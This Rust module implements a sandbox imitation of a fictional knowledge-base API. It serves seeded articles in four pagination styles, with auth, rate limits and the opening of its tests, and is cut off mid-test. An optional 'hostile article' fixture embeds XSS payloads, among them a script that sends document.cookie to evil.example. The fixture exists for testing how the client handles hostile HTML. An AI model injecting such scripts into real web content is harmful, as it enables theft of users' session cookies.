//! A tenant's own knowledge-base API, for Conduit's Custom-API knowledge source: one
//! seeded list of articles served four ways under the custom API stand-in
//! ([`super::custom`]) at `{base}/kb/{style}` (by default `/custom.example/api/kb/…`), so
//! a source configured with a pagination style and a JSON Pointer mapping can be tested
//! against each. There is no provider to copy: the shapes are deliberately different
//! from each other (envelopes, field names, nesting, id types, time formats), and each
//! holds a member reachable only through a JSON Pointer with an escaped `/` (`~1`) or
//! `~` (`~0`) in a key (RFC 6901).
//!
//! | Route name | Request (`GET`) | Answer |
//! |---|---|---|
//! | `custom.kb_page` | `{base}/kb/page?page=1&per_page=50` | `{"data": {"items": [...]}, "meta": {"page", "per_page", "total_pages", "total"}}` |
//! | `custom.kb_offset` | `{base}/kb/offset?offset=0&limit=50` | `{"results": [...], "total", "offset", "limit"}` |
//! | `custom.kb_cursor` | `{base}/kb/cursor?cursor=…&limit=50` | `{"articles": [...], "next_cursor": "…" \| null}` |
//! | `custom.kb_link` | `{base}/kb/link?limit=50[&after=…]` | a bare JSON array; `Link: <{url}>; rel="next"` (RFC 8288) while more remain |
//!
//! Article shapes and the JSON Pointers that reach each field:
//!
//! | Field | page | offset | cursor | link |
//! |---|---|---|---|---|
//! | id | `/id` (`"A-12"`) | `/article_id` (the number `12`) | `/key` (`"A-12"`) | `/uuid` (`"A-12"`) |
//! | title | `/attributes/headline` | `/title` | `/content/title` | `/name` |
//! | body (HTML) | `/attributes/html` | `/body/text~1html` | `/content/body_html` | `/document/source` |
//! | URL | `/attributes/permalink` | `/links/html_url` | `/links/self` | `/href` |
//! | updated | `/attributes/modified` (`…T09:00:00.123Z`) | `/updated_at` (`…Z`) | `/timestamps/updated` (`…+00:00`) | `/last_modified` (`…Z`) |
//! | locale | `/attributes/lang` | `/locale` | `/i18n/locale~0default` | `/language` |
//! | section path | `/attributes/path~1section` (`"Billing/Invoices"`) | `/section` | `/content/section` | `/labels/0` |
//! | state | `/attributes/state` (`published`/`draft`) | `/status` | `/published` (bool) | `/visibility` (`public`/`draft`) |
//!
//! Every style lists drafts too (the client skips them by state) and accepts
//! `updated_since` (RFC 3339; only articles whose update time is strictly after it);
//! rows come ordered by update time (milliseconds), then by article number. Update times
//! are unique and increase with every change ([`SandboxState::custom_kb_update`]), so
//! resuming from the last seen time neither misses nor repeats an article. Deletes
//! ([`SandboxState::custom_kb_delete`]) are hard: the article simply stops being listed.
//!
//! Paging: `per_page`/`limit` 1–100 (default 20); over 100, zero, or not a number: 400
//! `{"error":"invalid_parameter","message":"per_page must be between 1 and 100"}` (and
//! likewise for `page` ≥ 1, `offset` ≥ 0 and `updated_since`). Page and offset paging
//! count positions, so a change between requests shifts rows (as such APIs do); the
//! cursor (`cursor`, and the link style's `after`) is opaque, holds the last row's
//! update time and number, and survives changes. A cursor that does not decode: 400
//! `{"error":"invalid_cursor",…}`.
//!
//! Auth, as the custom API: the account's bearer token (`custom-sandbox-token-0001` for
//! the default account), API key (`X-Api-Key: custom-sandbox-key-0001`) or Basic
//! credentials, else 401 `{"error":"unauthorized"}`. Rate limit: requests per rolling
//! minute across the store, 600 by default ([`SandboxState::custom_kb_set_rate_limit`]);
//! every answer carries `X-RateLimit-Limit` and `X-RateLimit-Remaining`; past it, or
//! during a [`SandboxState::custom_kb_throttle_next`] storm: 429 `{"error":"rate_limited",
//! "message":…}` with `Retry-After` (seconds). Requests are counted after authentication.
//!
//! State ([`SandboxState`]): [`SandboxState::seed_custom_kb`] ([`CustomKbSeed`] →
//! [`CustomKbSummary`]), [`SandboxState::custom_kb_add`], [`SandboxState::custom_kb_update`],
//! [`SandboxState::custom_kb_delete`], [`SandboxState::custom_kb_articles`], the rate
//! knobs and [`SandboxState::custom_kb_advance_clock`]. One store for the sandbox, served
//! under every registered custom account's base path.
//!
//! Not reproduced (there is nothing to reproduce: this is a made-up API): writes over HTTP,
//! a single-article route, filtering other than `updated_since`, ETags, compression.

// The error of most helpers here is the finished response.
#![allow(clippy::result_large_err)]

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::time::{Duration, Instant};

use axum::http::header::{LINK, RETRY_AFTER};
use axum::http::{HeaderValue, StatusCode};
use axum::response::Response;
use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde::{Deserialize, Serialize};
use serde_json::{Value, json};

use super::ProviderRequest;
use crate::clock;
use crate::ratelimit::{Policy, Usage, Verdict};
use crate::state::SandboxState;
use crate::wire;

/// Route name of `GET {base}/kb/page`.
pub const KB_PAGE: &str = "custom.kb_page";
/// Route name of `GET {base}/kb/offset`.
pub const KB_OFFSET: &str = "custom.kb_offset";
/// Route name of `GET {base}/kb/cursor`.
pub const KB_CURSOR: &str = "custom.kb_cursor";
/// Route name of `GET {base}/kb/link`.
pub const KB_LINK: &str = "custom.kb_link";

/// The largest `per_page`/`limit`.
pub const MAX_LIMIT: usize = 100;
/// `per_page`/`limit` when not given.
pub const DEFAULT_LIMIT: usize = 20;
/// Requests per rolling minute by default.
pub const DEFAULT_REQUESTS_PER_MINUTE: u64 = 600;
/// DynamoDB's item size limit: the seed's large article is over it.
pub const DYNAMODB_ITEM_LIMIT: usize = 400 * 1024;

const LIMIT_POLICY: &str = "CUSTOM_KB_PER_MINUTE";
/// 2024-01-01T00:00:00Z in milliseconds.
const SEED_EPOCH_MS: i64 = 1_704_067_200_000;

/// A pagination style (one route each).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum KbStyle {
    /// `page` + `per_page`.
    Page,
    /// `offset` + `limit`.
    Offset,
    /// `cursor` + `limit`, `next_cursor` in the body.
    Cursor,
    /// `limit` (+ `after`), `Link: rel="next"` header.
    Link,
}

impl KbStyle {
    /// The route's counter name.
    pub fn name(self) -> &'static str {
        match self {
            KbStyle::Page => KB_PAGE,
            KbStyle::Offset => KB_OFFSET,
            KbStyle::Cursor => KB_CURSOR,
            KbStyle::Link => KB_LINK,
        }
    }
}

/// The style of `{base}/kb/{style}`, if `path` is one.
pub(crate) fn style(path: &str, base: &str) -> Option<KbStyle> {
    match path.strip_prefix(base)?.strip_prefix("/kb/")? {
        "page" => Some(KbStyle::Page),
        "offset" => Some(KbStyle::Offset),
        "cursor" => Some(KbStyle::Cursor),
        "link" => Some(KbStyle::Link),
        _ => None,
    }
}

// ---------------------------------------------------------------------------------------
// Content
// ---------------------------------------------------------------------------------------

/// An article as the stand-in keeps it (times in epoch milliseconds).
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct CustomKbArticle {
    /// The article number (`12`); the string id is `A-12`.
    pub number: u64,
    /// `A-{number}`.
    pub id: String,
    /// Title.
    pub title: String,
    /// HTML body.
    pub html: String,
    /// Locale, as seeded (`en`, `fr`, …).
    pub locale: String,
    /// Section path, `/`-separated (`Billing/Invoices`).
    pub section: String,
    /// A draft (listed, marked so).
    pub draft: bool,
    /// Created.
    pub created_ms: i64,
    /// Last changed (unique across the store).
    pub updated_ms: i64,
}

/// What [`SandboxState::seed_custom_kb`] creates. Deterministic for a `seed`; as JSON
/// every member is optional.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default)]
pub struct CustomKbSeed {
    /// Articles (default 200).
    pub articles: usize,
    /// Locales articles are spread over (default `en`, `fr`, `de`).
    pub locales: Vec<String>,
    /// Every n-th article is a draft (default 10; 0: none).
    pub draft_every: usize,
    /// Make article 2 (or 1) hostile HTML: `<script>`, `onerror=`, `javascript:`.
    pub hostile_article: bool,
    /// Make article 1's body larger than [`DYNAMODB_ITEM_LIMIT`].
    pub large_article: bool,
    /// The seed for texts, locales and times.
    pub seed: u64,
}

impl Default for CustomKbSeed {
    fn default() -> Self {
        Self {
            articles: 200,
            locales: vec!["en".to_owned(), "fr".to_owned(), "de".to_owned()],
            draft_every: 10,
            hostile_article: false,
            large_article: false,
            seed: 1,
        }
    }
}

/// What a seeded store holds.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize)]
pub struct CustomKbSummary {
    /// Article ids (`A-1` …), by number.
    pub article_ids: Vec<String>,
    /// Published articles.
    pub published: usize,
    /// Drafts.
    pub drafts: usize,
    /// Articles per locale.
    pub per_locale: BTreeMap<String, usize>,
    /// The hostile article, if asked for.
    pub hostile_article_id: Option<String>,
    /// The large article, if asked for.
    pub large_article_id: Option<String>,
    /// The earliest update time (RFC 3339).
    pub oldest_updated: Option<String>,
    /// The latest update time (RFC 3339).
    pub newest_updated: Option<String>,
}

/// A change to an article ([`SandboxState::custom_kb_update`]); `None` members are kept.
#[derive(Clone, Debug, Default, PartialEq, Eq, Deserialize)]
#[serde(default)]
pub struct CustomKbChange {
    /// New title.
    pub title: Option<String>,
    /// New HTML body.
    pub html: Option<String>,
    /// New locale.
    pub locale: Option<String>,
    /// Draft (`true`) or published (`false`).
    pub draft: Option<bool>,
}

/// The custom knowledge base and its knobs.
#[derive(Debug)]
pub struct CustomKbStore {
    articles: BTreeMap<u64, CustomKbArticle>,
    next_number: u64,
    last_stamp_ms: i64,
    clock_offset_ms: i64,
    per_minute: u64,
    throttle_left: u32,
    throttle_retry_after: u64,
}

impl Default for CustomKbStore {
    fn default() -> Self {
        Self {
            articles: BTreeMap::new(),
            next_number: 1,
            last_stamp_ms: 0,
            clock_offset_ms: 0,
            per_minute: DEFAULT_REQUESTS_PER_MINUTE,
            throttle_left: 0,
            throttle_retry_after: 1,
        }
    }
}

impl CustomKbStore {
    /// A new, unique, increasing update time.
    fn stamp(&mut self) -> i64 {
        let now = (clock::now_ms() + self.clock_offset_ms).max(self.last_stamp_ms + 1);
        self.last_stamp_ms = now;
        now
    }
}

fn number_of(id: &str) -> Option<u64> {
    id.trim().strip_prefix("A-")?.parse().ok()
}

/// The custom knowledge base, for tests and benchmarks.
impl SandboxState {
    /// Replaces the custom knowledge base with seeded articles (see [`CustomKbSeed`]):
    /// titles and HTML bodies of a few KB in the article's locale, section paths, a share
    /// of drafts, update times in the past (some a millisecond apart), optionally a large
    /// and a hostile article. Knobs are kept.
    pub fn seed_custom_kb(&self, seed: CustomKbSeed) -> CustomKbSummary {
        let locales: Vec<String> = {
            let mut l: Vec<String> = seed
                .locales
                .iter()
                .map(|s| s.trim().to_owned())
                .filter(|s| !s.is_empty())
                .collect();
            l.dedup();
            if l.is_empty() {
                vec!["en".to_owned()]
            } else {
                l
            }
        };
        let hostile = match (
            seed.hostile_article,
            seed.large_article && seed.articles > 1,
        ) {
            (false, _) => None,
            (true, true) => Some(2),
            (true, false) => Some(1),
        };
        let mut articles = BTreeMap::new();
        let mut summary = CustomKbSummary::default();
        let mut last = SEED_EPOCH_MS;
        for n in 1..=seed.articles as u64 {
            let x = mix(seed.seed ^ n.wrapping_mul(0x9E37));
            let locale = locales[(x % locales.len() as u64) as usize].clone();
            let created = SEED_EPOCH_MS + (n as i64) * 60_000;
            // Updates after every creation, in an order unrelated to the numbers; every
            // fifth lands a millisecond after the previous one.
            let updated = if n % 5 == 0 {
                last + 1
            } else {
                SEED_EPOCH_MS
                    + (seed.articles as i64 + 10) * 60_000
                    + (mix(x) % (seed.articles as u64 * 20_000 + 1)) as i64
            };
            last = updated;
            let i = usize::try_from(n).unwrap_or(0);
            let html = if seed.large_article && n == 1 {
                large_body(i, &locale, x)
            } else if hostile == Some(n) {
                hostile_body(i, &locale, x)
            } else {
                body(i, &locale, x)
            };
            let special = (seed.large_article && n == 1) || hostile == Some(n);
            let draft = !special && seed.draft_every > 0 && i % seed.draft_every == 0;
            let article = CustomKbArticle {
                number: n,
                id: format!("A-{n}"),
                title: title(i, &locale),
                html,
                locale: locale.clone(),
                section: SECTIONS[(x >> 8) as usize % SECTIONS.len()].to_owned(),
                draft,
                created_ms: created,
                updated_ms: updated,
            };
            if draft {
                summary.drafts += 1;
            } else {
                summary.published += 1;
            }
            *summary.per_locale.entry(locale).or_default() += 1;
            summary.article_ids.push(article.id.clone());
            articles.insert(n, article);
        }
        // Update times are unique: a tie moves the later article on by a millisecond.
        let mut order: Vec<(i64, u64)> = articles
            .values()
            .map(|a| (a.updated_ms, a.number))
            .collect();
        order.sort_unstable();
        let mut previous = i64::MIN;
        for (updated, n) in order {
            let unique = updated.max(previous + 1);
            previous = unique;
            if let Some(a) = articles.get_mut(&n) {
                a.updated_ms = unique;
            }
        }
        if seed.large_article && seed.articles > 0 {
            summary.large_article_id = Some("A-1".to_owned());
        }
        summary.hostile_article_id = hostile
            .filter(|n| *n <= seed.articles as u64)
            .map(|n| format!("A-{n}"));
        summary.oldest_updated = articles
            .values()
            .map(|a| a.updated_ms)
            .min()
            .map(rfc3339_ms);
        summary.newest_updated = articles
            .values()
            .map(|a| a.updated_ms)
            .max()
            .map(rfc3339_ms);
        let mut store = self.custom_kb_store();
        store.last_stamp_ms = articles.values().map(|a| a.updated_ms).max().unwrap_or(0);
        store.next_number = seed.articles as u64 + 1;
        store.articles = articles;
        summary
    }

    /// Adds a published article, created and updated now.
    pub fn custom_kb_add(&self, title: &str, html: &str, locale: &str) -> CustomKbArticle {
        let mut store = self.custom_kb_store();
        let now = store.stamp();
        let n = store.next_number;
        store.next_number += 1;
        let article = CustomKbArticle {
            number: n,
            id: format!("A-{n}"),
            title: title.to_owned(),
            html: html.to_owned(),
            locale: locale.to_owned(),
            section: SECTIONS[0].to_owned(),
            draft: false,
            created_ms: now,
            updated_ms: now,
        };
        store.articles.insert(n, article.clone());
        article
    }

    /// Changes an article (`A-12`), giving it a new update time (unique, later than every
    /// other). `None` for an unknown id.
    pub fn custom_kb_update(&self, id: &str, change: CustomKbChange) -> Option<CustomKbArticle> {
        let n = number_of(id)?;
        let mut store = self.custom_kb_store();
        if !store.articles.contains_key(&n) {
            return None;
        }
        let now = store.stamp();
        let article = store.articles.get_mut(&n)?;
        if let Some(title) = change.title {
            article.title = title;
        }
        if let Some(html) = change.html {
            article.html = html;
        }
        if let Some(locale) = change.locale {
            article.locale = locale;
        }
        if let Some(draft) = change.draft {
            article.draft = draft;
        }
        article.updated_ms = now;
        Some(article.clone())
    }

    /// Hard-deletes an article: no longer listed anywhere. `false` for an unknown id.
    pub fn custom_kb_delete(&self, id: &str) -> bool {
        number_of(id).is_some_and(|n| self.custom_kb_store().articles.remove(&n).is_some())
    }

    /// Every article, by number.
    pub fn custom_kb_articles(&self) -> Vec<CustomKbArticle> {
        self.custom_kb_store().articles.values().cloned().collect()
    }

    /// Requests per rolling minute (at least 1; default [`DEFAULT_REQUESTS_PER_MINUTE`]).
    pub fn custom_kb_set_rate_limit(&self, per_minute: u64) {
        self.custom_kb_store().per_minute = per_minute.max(1);
    }

    /// The next `count` knowledge-base requests answer 429 with `Retry-After:
    /// retry_after_secs` (at least 1), whatever the budget.
    pub fn custom_kb_throttle_next(&self, count: u32, retry_after_secs: u64) {
        let mut store = self.custom_kb_store();
        store.throttle_left = count;
        store.throttle_retry_after = retry_after_secs.max(1);
    }

    /// Moves the knowledge base's clock (what changes are stamped with) by `secs`.
    pub fn custom_kb_advance_clock(&self, secs: i64) {
        self.custom_kb_store().clock_offset_ms += secs * 1000;
    }
}

// ---------------------------------------------------------------------------------------
// Serving
// ---------------------------------------------------------------------------------------

fn error(status: StatusCode, code: &str, message: &str) -> Response {
    wire::json(status, json!({"error": code, "message": message}))
}

fn invalid(message: &str) -> Response {
    error(StatusCode::BAD_REQUEST, "invalid_parameter", message)
}

fn invalid_cursor() -> Response {
    error(
        StatusCode::BAD_REQUEST,
        "invalid_cursor",
        "The cursor is not valid; start again without one.",
    )
}

/// Serves a knowledge-base route: credentials, budget, then the page.
pub(crate) fn handle(
    style: KbStyle,
    state: &SandboxState,
    req: &ProviderRequest,
    base: &str,
) -> Response {
    if super::custom::authenticate(state, req, base).is_none() {
        return super::custom::unauthorized();
    }
    let usage = match admit(state) {
        Ok(usage) => usage,
        Err(refused) => return refused,
    };
    let mut response = match answer(style, state, req) {
        Ok(response) | Err(response) => response,
    };
    let headers = response.headers_mut();
    headers.insert("x-ratelimit-limit", HeaderValue::from(usage.limit));
    headers.insert("x-ratelimit-remaining", HeaderValue::from(usage.remaining));
    response
}

fn admit(state: &SandboxState) -> Result<Usage, Response> {
    let (per_minute, throttled_for) = {
        let mut store = state.custom_kb_store();
        let throttled = (store.throttle_left > 0).then_some(store.throttle_retry_after);
        store.throttle_left = store.throttle_left.saturating_sub(1);
        (store.per_minute, throttled)
    };
    if let Some(secs) = throttled_for {
        return Err(rate_limited(per_minute, secs));
    }
    let policy = [Policy::rolling(
        LIMIT_POLICY,
        per_minute,
        Duration::from_secs(60),
    )];
    match state.with_limiter(|limiter| limiter.acquire("custom.kb", &policy, Instant::now())) {
        Verdict::Allowed { usage } => Ok(usage.first().copied().unwrap_or(Usage {
            policy: LIMIT_POLICY,
            limit: per_minute,
            remaining: 0,
            reset_after: Duration::ZERO,
        })),
        Verdict::Denied { retry_after, .. } => {
            let secs = retry_after.as_secs() + u64::from(retry_after.subsec_nanos() > 0);
            Err(rate_limited(per_minute, secs))
        }
    }
}

fn rate_limited(limit: u64, retry_after: u64) -> Response {
    let mut response = error(
        StatusCode::TOO_MANY_REQUESTS,
        "rate_limited",
        "Too many requests; retry after the number of seconds in Retry-After.",
    );
    let headers = response.headers_mut();
    headers.insert(RETRY_AFTER, HeaderValue::from(retry_after.max(1)));
    headers.insert("x-ratelimit-limit", HeaderValue::from(limit));
    headers.insert("x-ratelimit-remaining", HeaderValue::from(0u64));
    response
}

/// The query's parameters, decoded.
struct Params(Vec<(String, String)>);

impl Params {
    fn get(&self, name: &str) -> Option<&str> {
        self.0
            .iter()
            .find(|(k, _)| k == name)
            .map(|(_, v)| v.as_str())
    }

    /// A whole number in `min..=max`, `default` when absent.
    fn number(
        &self,
        name: &str,
        default: usize,
        min: usize,
        max: usize,
    ) -> Result<usize, Response> {
        match self.get(name) {
            None => Ok(default),
            Some(raw) => raw
                .trim()
                .parse::<usize>()
                .ok()
                .filter(|n| (min..=max).contains(n))
                .ok_or_else(|| {
                    if max == usize::MAX {
                        invalid(&format!("{name} must be an integer of at least {min}"))
                    } else {
                        invalid(&format!("{name} must be between {min} and {max}"))
                    }
                }),
        }
    }
}

/// A cursor: the last row's update time and number.
fn encode_cursor(article: &CustomKbArticle) -> String {
    URL_SAFE_NO_PAD.encode(json!({"u": article.updated_ms, "n": article.number}).to_string())
}

fn decode_cursor(raw: &str) -> Option<(i64, u64)> {
    let bytes = URL_SAFE_NO_PAD.decode(raw.trim()).ok()?;
    let value: Value = serde_json::from_slice(&bytes).ok()?;
    Some((value.get("u")?.as_i64()?, value.get("n")?.as_u64()?))
}

fn answer(
    style: KbStyle,
    state: &SandboxState,
    req: &ProviderRequest,
) -> Result<Response, Response> {
    let params = Params(
        req.query
            .as_deref()
            .map(|q| {
                url::form_urlencoded::parse(q.as_bytes())
                    .map(|(k, v)| (k.into_owned(), v.into_owned()))
                    .collect()
            })
            .unwrap_or_default(),
    );
    let since = match params.get("updated_since") {
        None => None,
        Some(raw) => Some(
            clock::parse_datetime(raw)
                .ok_or_else(|| invalid("updated_since must be an RFC 3339 date-time"))?,
        ),
    };
    let limit_name = if style == KbStyle::Page {
        "per_page"
    } else {
        "limit"
    };
    let limit = params.number(limit_name, DEFAULT_LIMIT, 1, MAX_LIMIT)?;
    let after = match style {
        KbStyle::Cursor => params.get("cursor").filter(|c| !c.is_empty()),
        KbStyle::Link => params.get("after"),
        _ => None,
    }
    .map(|raw| decode_cursor(raw).ok_or_else(invalid_cursor))
    .transpose()?;

    let store = state.custom_kb_store();
    let mut rows: Vec<&CustomKbArticle> = store
        .articles
        .values()
        .filter(|a| since.is_none_or(|s| a.updated_ms > s))
        .collect();
    rows.sort_by_key(|a| (a.updated_ms, a.number));
    let total = rows.len();
    let host = &req.host;
    let shown = |page: &[&CustomKbArticle]| -> Vec<Value> {
        page.iter().map(|a| article_json(style, host, a)).collect()
    };
    let response = match style {
        KbStyle::Page => {
            let page = params.number("page", 1, 1, usize::MAX)?;
            let start = (page - 1).saturating_mul(limit).min(total);
            let end = start.saturating_add(limit).min(total);
            wire::json(
                StatusCode::OK,
                json!({
                    "data": {"items": shown(&rows[start..end])},
                    "meta": {"page": page, "per_page": limit, "total_pages": total.div_ceil(limit), "total": total},
                }),
            )
        }
        KbStyle::Offset => {
            let offset = params.number("offset", 0, 0, usize::MAX)?;
            let start = offset.min(total);
            let end = start.saturating_add(limit).min(total);
            wire::json(
                StatusCode::OK,
                json!({"results": shown(&rows[start..end]), "total": total, "offset": offset, "limit": limit}),
            )
        }
        KbStyle::Cursor | KbStyle::Link => {
            let start = after.map_or(0, |(u, n)| {
                rows.partition_point(|a| (a.updated_ms, a.number) <= (u, n))
            });
            let end = (start + limit).min(total);
            let page = &rows[start..end];
            let next = (end < total)
                .then(|| page.last().map(|a| encode_cursor(a)))
                .flatten();
            if style == KbStyle::Cursor {
                wire::json(
                    StatusCode::OK,
                    json!({"articles": shown(page), "next_cursor": next}),
                )
            } else {
                let mut response = wire::json(StatusCode::OK, Value::Array(shown(page)));
                if let Some(cursor) = next {
                    let mut url = format!("https://{host}{}?limit={limit}", req.path);
                    if let Some(raw) = params.get("updated_since") {
                        let _ = write!(
                            url,
                            "&updated_since={}",
                            url::form_urlencoded::byte_serialize(raw.as_bytes())
                                .collect::<String>()
                        );
                    }
                    let _ = write!(url, "&after={cursor}");
                    if let Ok(value) = HeaderValue::from_str(&format!("<{url}>; rel=\"next\"")) {
                        response.headers_mut().insert(LINK, value);
                    }
                }
                response
            }
        }
    };
    Ok(response)
}

/// An article in the style's own shape (see the module table).
fn article_json(style: KbStyle, host: &str, a: &CustomKbArticle) -> Value {
    let url = format!("https://{host}/kb/articles/{}", a.id);
    match style {
        KbStyle::Page => json!({
            "id": a.id,
            "type": "article",
            "attributes": {
                "headline": a.title,
                "html": a.html,
                "lang": a.locale,
                "permalink": url,
                "modified": rfc3339_ms(a.updated_ms),
                "created": rfc3339_ms(a.created_ms),
                "state": if a.draft { "draft" } else { "published" },
                "path/section": a.section,
            },
        }),
        KbStyle::Offset => json!({
            "article_id": a.number,
            "title": a.title,
            "body": {"text/html": a.html, "length": a.html.len()},
            "locale": a.locale,
            "section": a.section,
            "links": {"html_url": url},
            "updated_at": rfc3339_ms(a.updated_ms),
            "status": if a.draft { "draft" } else { "published" },
        }),
        KbStyle::Cursor => json!({
            "key": a.id,
            "content": {"title": a.title, "body_html": a.html, "section": a.section},
            "i18n": {"locale~default": a.locale},
            "links": {"self": url},
            "timestamps": {
                "created": rfc3339_offset(a.created_ms),
                "updated": rfc3339_offset(a.updated_ms),
            },
            "published": !a.draft,
        }),
        KbStyle::Link => json!({
            "uuid": a.id,
            "name": a.title,
            "document": {"format": "html", "source": a.html},
            "language": a.locale,
            "href": url,
            "labels": [a.section],
            "last_modified": rfc3339_ms(a.updated_ms),
            "visibility": if a.draft { "draft" } else { "public" },
        }),
    }
}

/// `2024-01-15T09:00:00.123Z`.
fn rfc3339_ms(ms: i64) -> String {
    let secs = ms.div_euclid(1000);
    let (days, rem) = (secs.div_euclid(86_400), secs.rem_euclid(86_400));
    let (y, m, d) = clock::civil_from_days(days);
    format!(
        "{y:04}-{m:02}-{d:02}T{:02}:{:02}:{:02}.{:03}Z",
        rem / 3600,
        rem % 3600 / 60,
        rem % 60,
        ms.rem_euclid(1000)
    )
}

/// `2024-01-15T09:00:00.123+00:00`.
fn rfc3339_offset(ms: i64) -> String {
    let mut text = rfc3339_ms(ms);
    text.pop();
    text + "+00:00"
}

// ---------------------------------------------------------------------------------------
// Seeded texts
// ---------------------------------------------------------------------------------------

fn mix(x: u64) -> u64 {
    let mut z = x.wrapping_add(0x9E37_79B9_7F4A_7C15);
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

const SECTIONS: [&str; 5] = [
    "Billing/Invoices",
    "Account/Security",
    "Integrations/Webhooks",
    "Getting started",
    "Mobile/Notifications",
];

const TOPICS: [[&str; 3]; 6] = [
    [
        "Downloading invoices",
        "Télécharger les factures",
        "Rechnungen herunterladen",
    ],
    [
        "Turning on two-factor sign-in",
        "Activer la double authentification",
        "Zwei-Faktor-Anmeldung aktivieren",
    ],
    [
        "Retrying failed webhooks",
        "Relancer les webhooks en échec",
        "Fehlgeschlagene Webhooks wiederholen",
    ],
    [
        "Inviting your team",
        "Inviter votre équipe",
        "Ihr Team einladen",
    ],
    [
        "Muting notifications",
        "Couper les notifications",
        "Benachrichtigungen stummschalten",
    ],
    [
        "Closing your account",
        "Fermer votre compte",
        "Ihr Konto schließen",
    ],
];

const SENTENCES: [[&str; 3]; 4] = [
    [
        "Open the settings page and choose the option that fits.",
        "Ouvrez la page des paramètres et choisissez l'option adaptée.",
        "Öffnen Sie die Einstellungen und wählen Sie die passende Option.",
    ],
    [
        "Changes apply to everyone in the workspace at once.",
        "Les modifications s'appliquent immédiatement à tout l'espace.",
        "Änderungen gelten sofort für den ganzen Arbeitsbereich.",
    ],
    [
        "Only owners and admins can do this.",
        "Seuls les propriétaires et administrateurs peuvent le faire.",
        "Nur Inhaber und Administratoren können das tun.",
    ],
    [
        "Contact support if something looks wrong.",
        "Contactez le support si quelque chose semble incorrect.",
        "Wenden Sie sich an den Support, wenn etwas nicht stimmt.",
    ],
];

fn lang(locale: &str) -> usize {
    match locale.split(['-', '_']).next() {
        Some("fr") => 1,
        Some("de") => 2,
        _ => 0,
    }
}

fn title(i: usize, locale: &str) -> String {
    let base = TOPICS[i % TOPICS.len()][lang(locale)];
    match i / TOPICS.len() {
        0 => base.to_owned(),
        round => format!("{base} ({})", round + 1),
    }
}

fn body(i: usize, locale: &str, x: u64) -> String {
    let l = lang(locale);
    let mut html = format!("<h2>{}</h2>", title(i, locale));
    for p in 0..4u64 {
        html.push_str("<p>");
        for s in 0..6u64 {
            let k = usize::try_from(mix(x ^ (p << 8) ^ s) % 4).unwrap_or(0);
            html.push_str(SENTENCES[k][l]);
            html.push(' ');
        }
        html.push_str("</p>");
    }
    let _ = write!(
        html,
        "<ul><li>{}</li><li>{}</li></ul><p><a href=\"https://custom.example/kb/articles/A-{}\">See also</a></p>",
        SENTENCES[0][l],
        SENTENCES[2][l],
        (i % 7) + 1
    );
    html
}

fn large_body(i: usize, locale: &str, x: u64) -> String {
    let mut html = body(i, locale, x);
    let mut part = 0;
    while html.len() <= 460 * 1024 {
        part += 1;
        let _ = write!(html, "<h3>Appendix {part}</h3><p>");
        for row in SENTENCES.iter().cycle().take(8) {
            html.push_str(row[lang(locale)]);
            html.push(' ');
        }
        html.push_str("</p>");
    }
    html
}

fn hostile_body(i: usize, locale: &str, x: u64) -> String {
    concat!(
        "<p>Before you start, sign out of every other session.</p>",
        "<script>document.location='https://evil.example/?c='+document.cookie</script>",
        "<img src=\"https://custom.example/img/x.png\" onerror=\"alert(1)\">",
        "<p><a href=\"javascript:alert('xss')\">Click here</a></p>",
        "<iframe src=\"https://evil.example/\"></iframe>",
        "<div onmouseover=\"alert(2)\">Tips</div>",
    )
    .to_owned()
        + &body(i, locale, x)
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use axum::body::Bytes;
    use axum::http::header::AUTHORIZATION;
    use axum::http::{HeaderMap, Method};

    use super::*;

    const TOKEN: &str = "Bearer custom-sandbox-token-0001";

    async fn call(
        state: &SandboxState,
        path_and_query: &str,
        auth: Option<&str>,
    ) -> (StatusCode, HeaderMap, Value) {
        let (path, query) = match path_and_query.split_once('?') {
            Some((p, q)) => (p.to_owned(), Some(q.to_owned())),
            None => (path_and_query.to_owned(), None),
        };
        let mut headers = HeaderMap::new();
        if let Some(auth) = auth {
            headers.insert(AUTHORIZATION, HeaderValue::from_str(auth).unwrap());
        }
        let req = ProviderRequest {
            method: Method::GET,
            host: "custom.example".to_owned(),
            path,
            query,
            headers,
            body: Bytes::new(),
        };
        let response = crate::providers::dispatch(state, req).await;
        let status = response.status();
        let headers = response.headers().clone();
        let bytes = axum::body::to_bytes(response.into_body(), usize::MAX)
            .await
            .unwrap();
        (status, headers, serde_json::from_slice(&bytes).unwrap())
    }

    async fn get(state: &SandboxState, url: &str) -> (StatusCode, HeaderMap, Value) {
        call(state, url, Some(TOKEN)).await
    }

    /// The value at an RFC 6901 pointer, as text.
    fn at(value: &Value, pointer: &str) -> String {
        match value.pointer(pointer) {
            Some(Value::String(s)) => s.clone(),
            Some(other) => other.to_string(),
            None => panic!("{pointer} missing in {value}"),
        }
    }

    fn expected_order(state: &SandboxState, since_ms: Option<i64>) -> Vec<String> {
        let mut all = state.custom_kb_articles();
        all.retain(|a| since_ms.is_none_or(|s| a.updated_ms > s));
        all.sort_by_key(|a| (a.updated_ms, a.number));
        all.into_iter().map(|a| a.id).collect()
    }

    fn seeded(n: usize) -> (SandboxState, CustomKbSummary) {
        let state = SandboxState::new();
        let summary = state.seed_custom_kb(CustomKbSeed {
            articles: n,
            ..CustomKbSeed::default()
        });
        (state, summary)
    }

    #[tokio::test]
    async fn page_style_walks_every_page() {
        let (state, summary) = seeded(130);
        let mut ids = Vec::new();
        let mut page = 1;
        loop {
            let (status, headers, body) =
                get(&state, &format!("/api/kb/page?page={page}&per_page=50")).await;
            assert_eq!(status, StatusCode::OK, "{body}");
            assert_eq!(headers["x-ratelimit-limit"], "600");
            assert_eq!(body["meta"]["total_pages"], 3);
            for item in body["data"]["items"].as_array().unwrap() {
                ids.push(at(item, "/id"));
                assert!(at(item, "/attributes/path~1section").len() > 3);
                assert!(at(item, "/attributes/modified").ends_with('Z'));
            }
            if page == 3 {
                break;
            }
            page += 1;
        }
        assert_eq!(ids, expected_order(&state, None));
